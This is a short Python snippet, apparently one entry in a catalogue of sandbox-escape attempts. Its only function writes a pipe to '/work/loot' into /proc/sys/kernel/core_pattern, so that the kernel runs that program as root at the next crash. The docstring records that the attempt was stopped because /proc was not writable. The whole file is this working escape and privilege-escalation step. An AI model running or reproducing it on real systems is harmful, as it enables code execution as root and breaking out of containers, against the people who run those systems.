"""Has the kernel run a program at its next crash.

Stopped by: no /proc to write to.
"""

def attempt(where):
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        return file.write("|/work/loot") > 0
